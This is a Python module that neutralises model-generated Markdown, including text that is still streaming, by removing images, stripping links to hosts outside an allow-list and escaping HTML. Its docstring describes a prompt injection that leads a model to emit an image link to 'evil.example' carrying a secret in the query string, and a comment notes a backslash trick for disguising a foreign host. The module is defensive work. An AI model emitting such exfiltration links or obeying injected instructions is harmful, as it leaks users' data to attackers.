"""Neutralise model output before a browser renders it as Markdown.

A document can carry a prompt injection that makes the model emit
``![x](https://evil.example/?q=<secret>)``; the browser would fetch that URL
as soon as the answer renders. So every image becomes plain text, links to
hosts outside an allow-list lose their target, and raw HTML is escaped.
Relative links such as ``/doc/leave.md#annual-leave`` (our own pages) stay.

`SafeStream` applies the same rules while text streams in: it holds back a
tail that might still grow into a link, image, tag or URL, so what it has
emitted is always a prefix of the neutralised final text.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

__all__ = ["SafeStream", "neutralise_markdown"]

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s?(?:\([^)\n]*\)|\[[^\]\n]*\])")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]*:[^>\s]*)>")
_BARE_URL = re.compile(r"(?<![`\w/])(?:https?|ftp)://[^\s)<>`\]]+", re.IGNORECASE)
_HTML_START = re.compile(r"<(?![a-zA-Z][a-zA-Z0-9+.-]*:[^>\s]*>)(?=[A-Za-z/!?])")
# Second line of defence for what the patterns above cannot see: images whose
# alt text nests brackets, any link destination (nested labels), and link
# reference definitions (which turn ``![x]`` or ``[x]`` into an image or link).
_ANY_IMAGE = re.compile(r"!\[")
_DESTINATION = re.compile(r"\]\(\s*<?([^)\s>]*)")
_DEFINITION = re.compile(r"(\[[^\]\n]*\]):")
_URL_NOISE = re.compile(r"[\x00-\x20]")

# Tails that may still become a construct once more text arrives.
_OPEN_TAIL = re.compile(
    r"!?\[[^\]\n]*(?:\](?:\([^)\n]*|\[[^\]\n]*)?)?$"  # label, destination or reference
    r"|<(?:[A-Za-z/!?][^>\n]*)?$"  # tag or autolink
    r"|!$"  # may become an image
    r"|\]\(\s*<?[^)\s>]*$"  # destination after a nested label, maybe across a line end
    r"|(?<![\w/])(?:https?://[^\s)<>`\]]*|h(?:t(?:t(?:p(?:s?(?::/?)?)?)?)?)?)$",  # URL in progress
    re.IGNORECASE,
)
_TAIL_WINDOW = 2000


def neutralise_markdown(text: str, *, allowed_hosts: frozenset[str]) -> str:
    """Return ``text`` with images, foreign links and raw HTML made inert.

    Args:
        text: Markdown written by the model.
        allowed_hosts: Hostnames whose links may stay clickable (lower case).

    Returns:
        Markdown in which images read ``[image removed: alt]``, links to other
        hosts (or with ``javascript:``/``data:`` targets) keep only their label
        and show the URL as code, and HTML tags are escaped.
    """
    text = _IMAGE.sub(_replace_image, text)
    text = _LINK.sub(lambda m: _replace_link(m, allowed_hosts), text)
    text = _AUTOLINK.sub(lambda m: _replace_autolink(m, allowed_hosts), text)
    text = _BARE_URL.sub(lambda m: _replace_bare(m, allowed_hosts), text)
    text = _HTML_START.sub("&lt;", text)
    text = _ANY_IMAGE.sub(r"!\\[", text)
    text = _DESTINATION.sub(lambda m: _guard_destination(m, allowed_hosts), text)
    return _DEFINITION.sub(r"\1\\:", text)


def is_allowed_url(url: str, *, allowed_hosts: frozenset[str]) -> bool:
    """Return whether ``url`` is relative to our own site or on an allowed host."""
    # Browsers decode entities in attributes, drop tabs and newlines inside
    # URLs and read "\\" as "/", so "/\\evil.example" is "//evil.example".
    url = _URL_NOISE.sub("", html.unescape(url)).replace("\\", "/")
    if url.startswith("//"):
        return _host(url) in allowed_hosts
    try:
        parts = urlsplit(url)
    except ValueError:  # e.g. "http://[evil" (an unclosed IPv6 host)
        return False
    if not parts.scheme:
        return True
    return parts.scheme.lower() in ("http", "https") and _host(url) in allowed_hosts


class SafeStream:
    """Neutralises streamed Markdown incrementally.

    ``feed(delta)`` returns the next piece of safe text (possibly empty);
    ``finish()`` returns the rest. The pieces always join to
    ``neutralise_markdown(all deltas)``.
    """

    def __init__(self, *, allowed_hosts: frozenset[str]) -> None:
        self._allowed = allowed_hosts
        self._raw = ""
        self._emitted = ""

    @property
    def text(self) -> str:
        """Return the neutralised text of everything fed so far."""
        return neutralise_markdown(self._raw, allowed_hosts=self._allowed)

    def feed(self, delta: str) -> str:
        """Add ``delta`` and return the safe text that can be shown now."""
        self._raw += delta
        return self._advance(self._raw[: _stable_length(self._raw)])

    def finish(self) -> str:
        """Return whatever was held back, now that the text is complete."""
        return self._advance(self._raw)

    def _advance(self, raw: str) -> str:
        safe = neutralise_markdown(raw, allowed_hosts=self._allowed)
        if not safe.startswith(self._emitted):
            # Cannot happen for the constructs above; emit nothing rather than wrong text.
            return ""
        delta = safe[len(self._emitted) :]
        self._emitted = safe
        return delta


def _stable_length(raw: str) -> int:
    """Return how much of ``raw`` cannot change meaning when more text is appended."""
    # From the line before the last: a link destination may follow a line end.
    start = max(0, len(raw) - _TAIL_WINDOW, raw.rfind("\n", 0, max(raw.rfind("\n"), 0)) + 1)
    match = _OPEN_TAIL.search(raw, start)
    cut = match.start() if match else len(raw)
    for pattern in (_IMAGE, _LINK, _AUTOLINK):
        for done in pattern.finditer(raw, start):
            if done.start() < cut < done.end():
                cut = done.start()
    # Whether a "<" is escaped depends on the character after it.
    return cut - 1 if cut and raw[cut - 1] == "<" else cut


def _guard_destination(match: re.Match[str], allowed: frozenset[str]) -> str:
    if is_allowed_url(match.group(1), allowed_hosts=allowed):
        return match.group(0)
    return "]\\(" + match.group(0)[2:]


def _replace_image(match: re.Match[str]) -> str:
    alt = re.sub(r"[\[\]]", "", match.group(1)).strip() or "no description"
    return f"\\[image removed: {alt}\\]"


def _replace_link(match: re.Match[str], allowed: frozenset[str]) -> str:
    label, url = match.group(1), match.group(2)
    if is_allowed_url(url, allowed_hosts=allowed):
        return match.group(0)
    return f"{label} ({_inert(url)})" if url else label


def _replace_autolink(match: re.Match[str], allowed: frozenset[str]) -> str:
    url = match.group(1)
    return match.group(0) if is_allowed_url(url, allowed_hosts=allowed) else _inert(url)


def _replace_bare(match: re.Match[str], allowed: frozenset[str]) -> str:
    url = match.group(0)
    return url if is_allowed_url(url, allowed_hosts=allowed) else _inert(url)


def _inert(url: str) -> str:
    """Return ``url`` as inline code, which Markdown never turns into a link."""
    return "`" + url.replace("`", "") + "`"


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""
